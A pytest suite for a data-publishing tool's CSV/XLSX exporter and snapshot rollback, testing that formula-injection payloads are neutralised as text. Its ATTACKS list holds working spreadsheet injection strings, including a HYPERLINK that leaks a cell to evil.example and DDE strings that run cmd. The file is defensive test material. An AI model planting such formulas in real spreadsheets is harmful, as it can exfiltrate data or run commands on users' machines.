"""Exports of the published tables (CSV and XLSX) and rollback of the published snapshot.

Formula injection (OWASP "CSV injection") is neutralised in both formats and read back with the
readers analysts use (openpyxl, calamine); numbers stay numbers; every published table of the demo
is exported with its row count; a set is swapped in whole or not at all; `observatory rollback`
puts the previous snapshot back and can be undone.
"""

from __future__ import annotations

import csv
import hashlib
import json
import threading
import time
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner
from observatory import exports
from observatory.cli import main
from observatory.contracts import GSS_SYMBOLS
from observatory.exports import SYNTHETIC_LABEL, export_snapshot, neutralise
from observatory.publish import publish_snapshot, rollback
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

# Text a spreadsheet would run as a formula (OWASP's triggers), and text it would not.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Black African", "c", "2023/24", "a = b", " =1+1"]


def _snapshot(path: Path) -> Path:
    """A snapshot shaped like the published one: a publish.manifest and a table of awkward cells."""
    with duckdb.connect(str(path)) as con:
        con.execute("create schema publish")
        con.execute(
            """create table publish.awkward (row_id integer, label varchar, value double, n bigint,
               as_at date, built timestamp, flag boolean)"""
        )
        rows = [
            (i, text, -1.5 * i, -i, date(2024, 3, 31), datetime(2024, 4, 1, 2, 3, 4), i % 2 == 0)
            for i, text in enumerate(ATTACKS + HARMLESS + [None])
        ]
        con.executemany("insert into publish.awkward values (?, ?, ?, ?, ?, ?, ?)", rows)
        con.execute(
            """create table publish.manifest as select 'awkward' as table_name, 12::bigint as row_count,
               timestamp '2026-11-23 02:00:00' as published_at, 'test' as code_version"""
        )
    return path


@pytest.fixture
def exported(tmp_path) -> Path:
    snapshot = _snapshot(tmp_path / "observatory.duckdb")
    target = tmp_path / "exports"
    export_snapshot(snapshot, target, demo=True)
    return target


def _csv_rows(path: Path) -> list[dict]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel reads accents"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_neutralise_prefixes_only_formula_triggers():
    for text in ATTACKS:
        assert neutralise(text) == "'" + text
    for value in [*HARMLESS, None, -3, -2.5, 0, date(2024, 1, 1), True]:
        assert neutralise(value) == value


def test_site_downloads_are_written_by_the_same_writers(tmp_path):
    """The board site's CSV and XLSX downloads neutralise formulas too: they are these exports."""
    from decimal import Decimal

    from observatory.exports import csv_value, xlsx_value
    from observatory.site.snapshot import Snapshot

    assert [csv_value(v) for v in (-2.5, -3, Decimal("-1.50"), "Black African")] == [
        "-2.5",
        "-3",
        "-1.50",
        "Black African",
    ]
    assert xlsx_value(Decimal("-1.50")) == Decimal("-1.50")  # a number in Excel, not text
    snapshot = _snapshot(tmp_path / "observatory.duckdb")
    with Snapshot.open(snapshot) as snap:
        for out in ("a", "b"):
            snap.write_download(
                "awkward", ["row_id"], tmp_path / out / "t.csv", tmp_path / out / "t.xlsx", demo=True
            )
    rows = _csv_rows(tmp_path / "a" / "t.csv")
    assert [r["label"] for r in rows[: len(ATTACKS)]] == ["'" + t for t in ATTACKS]
    ws = load_workbook(tmp_path / "a" / "t.xlsx")["awkward"]
    assert [c.value for c in ws["B"][1 : 1 + len(ATTACKS)]] == ["'" + _xml(t) for t in ATTACKS]
    # Pinned to the publication time, not the clock: the same snapshot gives the same bytes.
    assert (tmp_path / "a" / "t.xlsx").read_bytes() == (tmp_path / "b" / "t.xlsx").read_bytes()


def test_csv_neutralises_formula_injection_and_keeps_numbers_as_numbers(exported):
    rows = _csv_rows(exported / "awkward.csv")
    by_id = {int(r["row_id"]): r for r in rows}
    for i, text in enumerate(ATTACKS):
        assert by_id[i]["label"] == "'" + text
    for j, text in enumerate(HARMLESS, start=len(ATTACKS)):
        assert by_id[j]["label"] == text
    assert by_id[len(ATTACKS) + len(HARMLESS)]["label"] == ""  # null: an empty cell
    for i, row in by_id.items():
        assert float(row["value"]) == -1.5 * i  # negative numbers are numbers, never quoted
        assert row["n"] == str(-i)
        assert row["as_at"] == "2024-03-31"
    assert len(rows) == len(ATTACKS) + len(HARMLESS) + 1


def test_xlsx_neutralises_formula_injection_read_back_with_openpyxl_and_calamine(exported):
    path = exported / "awkward.xlsx"
    wb = load_workbook(path)
    assert wb.sheetnames == ["awkward", "README"]
    ws = wb["awkward"]
    header = [c.value for c in ws[1]]
    label, value, n = header.index("label"), header.index("value"), header.index("n")
    data = list(ws.iter_rows(min_row=2))
    assert len(data) == len(ATTACKS) + len(HARMLESS) + 1
    for i, text in enumerate(ATTACKS):
        cell = data[i][label]
        assert cell.data_type == "s" and cell.value == "'" + _xml(text)  # text, never a formula
    for i, row in enumerate(data):
        assert row[value].data_type == "n" and row[value].value == -1.5 * i  # a number, not text
        assert row[n].data_type == "n" and row[n].value == -i
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)

    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("awkward").to_python()
    assert calamine[0] == header
    assert [r[label] for r in calamine[1 : 1 + len(ATTACKS)]] == ["'" + t for t in ATTACKS]  # escape decoded
    assert [r[value] for r in calamine[1:]] == [-1.5 * i for i in range(len(calamine) - 1)]
    assert isinstance(calamine[1][header.index("as_at")], date)


def _xml(text: str) -> str:
    """A carriage return is stored as the OOXML escape _x000D_ (Excel shows it as a carriage return;
    openpyxl, which reads the workbook here, leaves the escape as it is)."""
    return text.replace("\r", "_x000D_")


def test_every_workbook_and_the_folder_say_what_the_symbols_mean_and_that_the_data_are_synthetic(exported):
    notes = {r["topic"]: r["note"] for r in _csv_rows(exported / "README.csv")}
    assert notes["data"] == SYNTHETIC_LABEL
    for symbol, meaning in GSS_SYMBOLS.items():
        assert notes[f"symbol {symbol}"] == meaning
    sheet = load_workbook(exported / "awkward.xlsx")["README"]
    assert {r[0]: r[1] for r in sheet.iter_rows(min_row=2, values_only=True)} == notes


def test_no_synthetic_label_outside_demo_data(tmp_path):
    snapshot = _snapshot(tmp_path / "observatory.duckdb")
    export_snapshot(snapshot, tmp_path / "exports", demo=False)
    topics = {r["topic"] for r in _csv_rows(tmp_path / "exports" / "README.csv")}
    assert "data" not in topics and "symbol c" in topics


def test_a_set_is_swapped_in_whole_and_a_failed_export_leaves_the_last_set(tmp_path, monkeypatch):
    snapshot = _snapshot(tmp_path / "observatory.duckdb")
    target = tmp_path / "exports"
    expected = {
        "README.csv",
        "awkward.csv",
        "awkward.xlsx",
        "manifest.csv",
        "manifest.xlsx",
        exports.SET_INDEX,
    }
    first = export_snapshot(snapshot, target, demo=True).directory
    assert target.is_symlink() and target.resolve() == first.resolve()

    # A reader listing the live set while three more are published never sees a partial set.
    seen, stop = [], threading.Event()

    def reader():
        while not stop.is_set():
            try:
                seen.append({p.name for p in target.iterdir()})
            except FileNotFoundError:
                seen.append(set())

    thread = threading.Thread(target=reader)
    thread.start()
    try:
        for _ in range(3):
            export_snapshot(snapshot, target, demo=True)
    finally:
        stop.set()
        thread.join()
    assert seen and all(names == expected for names in seen)

    # An export that fails half way (after the CSVs of one table) leaves the live set untouched.
    live = target.resolve()
    before = {p.name: p.read_bytes() for p in live.iterdir()}

    def fail(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports, "write_xlsx", fail)
    with pytest.raises(OSError, match="disk full"):
        export_snapshot(snapshot, target, demo=True)
    assert target.resolve() == live
    assert {p.name: p.read_bytes() for p in live.iterdir()} == before
    builds = target.parent / exports.BUILDS_DIRNAME
    assert not [p for p in builds.iterdir() if p.name.startswith(".building-")]


def test_export_never_takes_over_a_folder_of_other_files(tmp_path):
    snapshot = _snapshot(tmp_path / "observatory.duckdb")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me")
    with pytest.raises(FileExistsError):
        export_snapshot(snapshot, mine, demo=False)
    assert (mine / "notes.txt").read_text() == "keep me"
    empty = tmp_path / "empty"
    empty.mkdir()
    export_snapshot(snapshot, empty, demo=False)
    assert empty.is_symlink() and (empty / "awkward.csv").exists()


def test_every_published_demo_table_is_exported_with_its_row_count(demo_run):
    paths = demo_run["paths"]
    assert "published/exports" in demo_run["summary"].materialized
    with duckdb.connect(str(paths.snapshot), read_only=True) as con:
        tables = {
            name: con.execute(f'select count(*) from publish."{name}"').fetchone()[0]
            for (name,) in con.execute(
                "select table_name from information_schema.tables where table_schema = 'publish'"
            ).fetchall()
        }
        manifest = dict(con.execute("select table_name, row_count from publish.manifest").fetchall())
    assert {"manifest", "outcome_indicators", "data_quality"} <= set(tables)
    assert manifest == {t: n for t, n in tables.items() if t != "manifest"}
    for table, n in tables.items():
        assert len(_csv_rows(paths.exports / f"{table}.csv")) == n, table
        sheets = CalamineWorkbook.from_path(str(paths.exports / f"{table}.xlsx"))
        assert sheets.sheet_names == [table[:31], "README"]
        assert len(sheets.get_sheet_by_name(table[:31]).to_python()) == n + 1, table  # + header


def test_manifest_states_each_tables_sources_and_build_time(demo_run):
    with duckdb.connect(str(demo_run["paths"].snapshot), read_only=True) as con:
        manifest = {
            r[0]: r[1:]
            for r in con.execute(
                "select table_name, sources, source_periods, built_at, published_at from publish.manifest"
            ).fetchall()
        }
    sources, periods, built_at, published_at = manifest["pay_gap"]
    assert sources == "hr_payroll"
    assert periods == "hr_payroll: 2021-03-31 to 2025-03-31"
    assert built_at is not None and built_at <= published_at
    assert "stop_search" in manifest["outcome_indicators"][0]
    assert "hr_payroll" not in manifest["outcome_indicators"][0]


# --- rollback -------------------------------------------------------------------------------------


def _publish(value: str) -> None:
    with duckdb.connect() as con:
        con.execute("create schema publish")
        con.execute(f"create table publish.t as select '{value}' as v")
        publish_snapshot(con, ["t"])


def _live(paths) -> str:
    with duckdb.connect(str(paths.snapshot), read_only=True) as con:
        return con.execute("select v from publish.t").fetchone()[0]


def test_rollback_swaps_the_previous_snapshot_back_and_can_be_undone(data_dir):
    with pytest.raises(FileNotFoundError):
        rollback()
    _publish("first")
    _publish("second")
    assert _live(data_dir) == "second"
    rollback()
    assert _live(data_dir) == "first"
    with duckdb.connect(str(data_dir.previous_snapshot), read_only=True) as con:
        assert con.execute("select v from publish.t").fetchone()[0] == "second"
    rollback()
    assert _live(data_dir) == "second"
    assert not list(data_dir.published.glob(".*tmp"))


def test_rollback_command_restores_the_snapshot_and_rebuilds_site_and_exports_from_it(data_dir):
    runner = CliRunner()
    result = runner.invoke(main, ["rollback"])
    assert result.exit_code == 1 and "Nothing to roll back to" in result.output
    _publish("first")
    _publish("second")
    assert runner.invoke(main, ["export"]).exit_code == 0
    assert _csv_rows(data_dir.exports / "t.csv") == [{"v": "second"}]

    result = runner.invoke(main, ["rollback"])
    assert result.exit_code == 0, result.output
    assert _live(data_dir) == "first"
    assert _csv_rows(data_dir.exports / "t.csv") == [{"v": "first"}]
    assert (data_dir.site / "index.html").exists()


def test_files_written_in_worker_processes_are_byte_identical_to_one_process(tmp_path):
    """A large snapshot's files are written in a process per core, largest first: the same set."""
    snapshot = _snapshot(tmp_path / "observatory.duckdb")
    one = export_snapshot(snapshot, tmp_path / "one", demo=True, workers=1)
    two = export_snapshot(snapshot, tmp_path / "two", demo=True, workers=2)
    assert one.tables == two.tables == {"awkward": 12, "manifest": 1}
    files = {p.name: p.read_bytes() for p in one.directory.iterdir()}
    assert len(files) == 6 and files == {p.name: p.read_bytes() for p in two.directory.iterdir()}
    # The set's index: the writer's version, each table's order and its files' checksums.
    index = json.loads(files[exports.SET_INDEX])
    assert index["writer"] == exports.writer_version() and set(index["tables"]) == {"awkward", "manifest"}
    for table, entry in index["tables"].items():
        for kind in ("csv", "xlsx"):
            assert entry[kind] == hashlib.sha256(files[f"{table}.{kind}"]).hexdigest()


def test_the_writer_version_changes_with_the_xlsx_librarys_version(monkeypatch):
    """The site links the set's files only if the same writer made them: an upgraded rustpy-xlsxwriter
    may write other bytes, so its version is part of the writer's."""
    exports.writer_version.cache_clear()
    installed = exports.writer_version()
    real = exports.metadata.version
    monkeypatch.setattr(
        exports.metadata, "version", lambda name: "0.0.1" if name == exports.XLSX_LIBRARY else real(name)
    )
    exports.writer_version.cache_clear()
    try:
        assert exports.writer_version() != installed
    finally:
        exports.writer_version.cache_clear()


@pytest.mark.parametrize(("rows", "sheets"), [(0, [1]), (2, [3]), (3, [3, 2]), (5, [3, 3, 2])])
def test_a_table_longer_than_excels_row_limit_continues_on_further_sheets(
    tmp_path, monkeypatch, rows, sheets
):
    """Rows are streamed, so the split is found on the way: header plus up to the limit a sheet,
    never an empty sheet after a full one. (The limit is set to 3 rows, header included.)"""
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    path = tmp_path / "t.xlsx"
    exports.write_xlsx(path, "t", ["n"], ((i,) for i in range(rows)), [("topic", "note")])
    book = load_workbook(path)
    names = ["t", *[f"t ({i})" for i in range(2, len(sheets) + 1)], "README"]
    assert book.sheetnames == names
    assert [book[name].max_row for name in names[:-1]] == sheets
    values = [row[0] for name in names[:-1] for row in book[name].iter_rows(min_row=2, values_only=True)]
    assert values == list(range(rows))


def test_xlsx_cells_keep_their_types_formats_and_excels_text_limit(tmp_path):
    """Numbers, booleans, dates (with or without a time), Decimal, empty cells, text past Excel's
    32,767 characters and values of other types, as the workbook holds them."""
    header = ["int", "float", "flag", "day", "at", "decimal", "long", "null", "nan", "list"]
    row = (1, 2.5, True, date(2024, 3, 31), datetime(2024, 4, 1, 2, 3, 4), Decimal("1.25"), "x" * 40_000)
    path = tmp_path / "t.xlsx"
    exports.write_xlsx(path, "t", header, [(*row, None, float("nan"), ["a"])], [("topic", "note")])
    ws = load_workbook(path)["t"]
    assert [c.value for c in ws[1]] == header
    cells = {name: cell for name, cell in zip(header, ws[2], strict=True)}
    assert (cells["int"].value, cells["float"].value, cells["decimal"].value) == (1, 2.5, 1.25)
    assert {cells[c].data_type for c in ("int", "float", "decimal")} == {"n"}
    assert cells["flag"].data_type == "b" and cells["flag"].value is True
    assert cells["day"].value == datetime(2024, 3, 31) and cells["day"].number_format == "yyyy-mm-dd"
    assert cells["at"].value == datetime(2024, 4, 1, 2, 3, 4)
    assert cells["at"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert cells["long"].value == "x" * exports.XLSX_MAX_TEXT
    assert cells["null"].value is None and cells["nan"].value is None
    assert cells["list"].value == "['a']"


def test_a_workbook_written_again_later_is_the_same_bytes_and_pinning_keeps_the_sheets_compressed(tmp_path):
    """The document times are the publication's, not the clock's, so the same rows written a second
    later give the same file; pinning them rewrites core.xml only (the sheets, gigabytes of XML at
    scale, keep the bytes the writer compressed: re-deflating them cost as long as writing)."""
    header, rows = ["id", "name"], [(n, f"=cmd {n}") for n in range(2000)]
    stamp = datetime(2026, 11, 23, 2, 0, 0)
    first, unpinned, second = tmp_path / "first.xlsx", tmp_path / "unpinned.xlsx", tmp_path / "second.xlsx"
    exports.write_xlsx(first, "t", header, rows, [("a", "b")], stamp=stamp)
    time.sleep(1.1)  # the writer stamps the clock to the second
    exports.write_xlsx(unpinned, "t", header, rows, [("a", "b")])
    exports.write_xlsx(second, "t", header, rows, [("a", "b")], stamp=stamp)
    assert first.read_bytes() == second.read_bytes() != unpinned.read_bytes()

    def entries(path):
        with zipfile.ZipFile(path) as book:
            assert book.testzip() is None
            return {
                info.filename: path.read_bytes()[info.header_offset : info.header_offset + 200]
                for info in book.infolist()
            }

    pinned, raw = entries(first), entries(unpinned)
    assert pinned.keys() == raw.keys()
    sheet = "xl/worksheets/sheet1.xml"
    assert pinned[sheet] == raw[sheet]  # the same local header and compressed bytes, at the same place
    book = load_workbook(first)
    assert book.properties.created == book.properties.modified == stamp
    assert [c.value for c in book["t"][2]] == [0, "'=cmd 0"]
